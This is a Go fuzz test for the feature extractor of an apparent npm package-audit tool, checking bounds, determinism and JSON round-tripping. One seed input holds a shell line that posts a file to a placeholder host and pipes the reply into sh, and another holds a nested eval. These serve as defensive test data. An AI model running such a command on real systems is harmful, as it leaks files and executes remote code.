package feature

import (
	"encoding/json"
	"testing"

	"github.com/amalfi-audit/audit/internal/npm"
	"github.com/amalfi-audit/audit/internal/program"
)

// FuzzExtract extracts the features of a package of a manifest and two files.
// It must not panic, keeps its bounds, gives the same twice, and survives the
// way through JSON to the parent.
func FuzzExtract(f *testing.F) {
	for _, cases := range uses {
		for _, src := range cases.once {
			f.Add(`{"main":"a.js","scripts":{"install":"node a.js"}}`, src, "")
		}
	}
	f.Add(`{"exports":{"./*":"./*.js"},"bin":{"x":"b.sh"}}`, "eval(`eval('x')`)", "#!/bin/sh\ncurl -d @f http://h.invalid | sh")
	f.Add(`{"dependencies":{"a":"git+ssh://h.invalid/a"}}`, "import './b.html'", "<script>fetch(1)</script>")
	f.Fuzz(func(t *testing.T, manifest, script, other string) {
		read := func() *Set {
			tree := &npm.Tree{}
			for _, file := range [][2]string{{"a.js", script}, {"b.html", other}, {"b.sh", other}, {"package.json", manifest}} {
				tree.Files = append(tree.Files, npm.File{Path: file[0], Size: int64(len(file[1])), Data: []byte(file[1])})
			}
			return extract(tree, program.Options{})
		}
		s := read()
		for _, file := range s.Files {
			for _, c := range file.Counts {
				if Lookup(c.Feature) == nil || c.N < len(c.At) || c.N == 0 {
					t.Errorf("%s: %s counts %d and lists %d", file.Path, c.Feature, c.N, len(c.At))
				}
				if len(c.At) > MaxOccurrences+MaxDetails {
					t.Errorf("%s: %s lists %d", file.Path, c.Feature, len(c.At))
				}
				for _, o := range c.At {
					if len(o.Detail) > MaxDetail || o.Line < 0 || o.Column < 0 {
						t.Errorf("%s: %+v", file.Path, o)
					}
				}
			}
		}
		first, err := json.Marshal(s)
		if err != nil {
			t.Fatal(err)
		}
		again := new(Set)
		if err := json.Unmarshal(first, again); err != nil {
			t.Fatal(err)
		}
		if v, w := s.Values().Record(), again.Values().Record(); !equal(v, w) {
			t.Errorf("values %v and, through JSON, %v", v, w)
		}
		if second, err := json.Marshal(read()); err != nil || string(first) != string(second) {
			t.Errorf("two runs differ (%v)", err)
		}
		Difference(&Side{Set: again}, &Side{Set: s})
		if len(Capabilities(again, s)) > 0 {
			t.Errorf("a version newly does what it did: %v", Capabilities(again, s))
		}
	})
}

func equal(a, b []string) bool {
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return len(a) == len(b)
}
